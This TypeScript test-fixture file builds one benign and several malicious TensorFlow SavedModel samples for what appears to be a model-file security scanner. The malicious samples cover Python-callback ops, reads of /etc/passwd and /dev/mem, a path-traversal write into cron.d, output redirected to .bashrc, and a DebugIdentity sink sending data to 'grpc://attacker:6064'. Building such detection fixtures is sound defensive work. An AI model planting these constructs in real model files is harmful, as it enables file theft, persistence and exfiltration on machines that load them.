/** SavedModel / GraphDef samples (field numbers from saved_model.proto, graph.proto, node_def.proto, function.proto). */
import { encode, type PbField } from './protobuf-encoder';

type Attr = { key: string; s?: string; list?: string[]; func?: string; constStrings?: string[] };

export function tfNode(name: string, op: string, inputs: string[] = [], attrs: Attr[] = []): PbField[] {
  const msg: PbField[] = [{ n: 1, bytes: name }, { n: 2, bytes: op }, ...inputs.map((i): PbField => ({ n: 3, bytes: i }))];
  for (const a of attrs) {
    let value: PbField[] = [];
    if (a.s !== undefined) value = [{ n: 2, bytes: a.s }];
    if (a.list) value = [{ n: 1, msg: a.list.map((s): PbField => ({ n: 2, bytes: s })) }];
    if (a.func) value = [{ n: 10, msg: [{ n: 1, bytes: a.func }] }];
    if (a.constStrings) value = [{ n: 8, msg: [{ n: 1, varint: 7 }, ...a.constStrings.map((s): PbField => ({ n: 8, bytes: s }))] }];
    msg.push({ n: 5, msg: [{ n: 1, bytes: a.key }, { n: 2, msg: value }] });
  }
  return msg;
}

export function tfFunction(name: string, nodes: PbField[][]): PbField {
  return { n: 1, msg: [{ n: 1, msg: [{ n: 1, bytes: name }] }, ...nodes.map((m): PbField => ({ n: 3, msg: m }))] };
}

export function graphDef(nodes: PbField[][], functions: PbField[] = []): PbField[] {
  const fields: PbField[] = nodes.map((m) => ({ n: 1, msg: m }));
  if (functions.length > 0) fields.push({ n: 2, msg: functions });
  fields.push({ n: 4, msg: [{ n: 1, varint: 1087 }] });
  return fields;
}

export function savedModel(graph: PbField[]): Buffer {
  const metaInfo: PbField[] = [{ n: 1, bytes: '' }, { n: 4, bytes: 'serve' }, { n: 5, bytes: '2.15.0' }];
  return encode([{ n: 1, varint: 1 }, { n: 2, msg: [{ n: 1, msg: metaInfo }, { n: 2, msg: graph }] }]);
}

/** The SaveV2/RestoreV2 plumbing every exported SavedModel carries, fed by the saver_filename placeholder. */
function saverNodes(): PbField[][] {
  return [
    tfNode('saver_filename', 'Placeholder'),
    tfNode('tensor_names', 'Const', [], [{ key: 'value', constStrings: ['w', 'b'] }]),
    tfNode('save', 'SaveV2', ['saver_filename', 'tensor_names']),
    tfNode('restore', 'RestoreV2', ['saver_filename', 'tensor_names']),
  ];
}

export function benignSavedModel(): Buffer {
  return savedModel(
    graphDef(
      [
        tfNode('x', 'Placeholder'),
        tfNode('w', 'VarHandleOp'),
        tfNode('w/read', 'ReadVariableOp', ['w']),
        tfNode('mm', 'MatMul', ['x', 'w/read']),
        tfNode('b', 'Const'),
        tfNode('add', 'AddV2', ['mm', 'b']),
        tfNode('call', 'StatefulPartitionedCall', ['x'], [{ key: 'f', func: '__inference_serve_42' }]),
        tfNode('log', 'PrintV2', ['add'], [{ key: 'output_stream', s: 'stderr' }]),
        ...saverNodes(),
      ],
      [tfFunction('__inference_serve_42', [tfNode('relu', 'Relu', ['x']), tfNode('inner', '__inference_serve_42', [])])],
    ),
  );
}

export function maliciousSavedModels(): Record<string, [Buffer, string, string]> {
  const sm = (nodes: PbField[][], fns: PbField[] = []): Buffer => savedModel(graphDef([tfNode('x', 'Placeholder'), ...nodes], fns));
  return {
    'PyFunc in the graph': [sm([tfNode('p', 'PyFunc', ['x'], [{ key: 'token', s: 'pyfunc_0' }])]), 'savedmodel.python-callback-op', 'CRITICAL'],
    'EagerPyFunc inside a library function': [sm([], [tfFunction('__inference_f_1', [tfNode('e', 'EagerPyFunc', ['x'])])]), 'savedmodel.python-callback-op', 'CRITICAL'],
    'ReadFile': [sm([tfNode('path', 'Const', [], [{ key: 'value', constStrings: ['/etc/passwd'] }]), tfNode('r', 'ReadFile', ['path'])]), 'savedmodel.filesystem-op', 'ERROR'],
    'WriteFile in a function': [sm([], [tfFunction('f', [tfNode('w', 'WriteFile', ['x', 'x'])])]), 'savedmodel.filesystem-op', 'ERROR'],
    'MatchingFiles': [sm([tfNode('m', 'MatchingFiles', ['x'])]), 'savedmodel.filesystem-op', 'ERROR'],
    'ImmutableConst': [sm([tfNode('i', 'ImmutableConst', [], [{ key: 'memory_region_name', s: '/dev/mem' }])]), 'savedmodel.filesystem-op', 'ERROR'],
    'SaveV2 to an absolute constant path': [sm([tfNode('p', 'Const', [], [{ key: 'value', constStrings: ['/tmp/../etc/cron.d/x'] }]), tfNode('s', 'SaveV2', ['p:0', 'x'])]), 'savedmodel.path-outside-model', 'WARNING'],
    'PrintV2 to a file': [sm([tfNode('pr', 'PrintV2', ['x'], [{ key: 'output_stream', s: 'file:///home/user/.bashrc' }])]), 'savedmodel.external-sink', 'ERROR'],
    'DebugIdentity to grpc': [sm([tfNode('d', 'DebugIdentity', ['x'], [{ key: 'debug_urls', list: ['grpc://attacker:6064'] }])]), 'savedmodel.external-sink', 'ERROR'],
    'custom op': [sm([tfNode('c', 'ZeroOutEvil', ['x'])]), 'savedmodel.custom-op', 'WARNING'],
  };
}
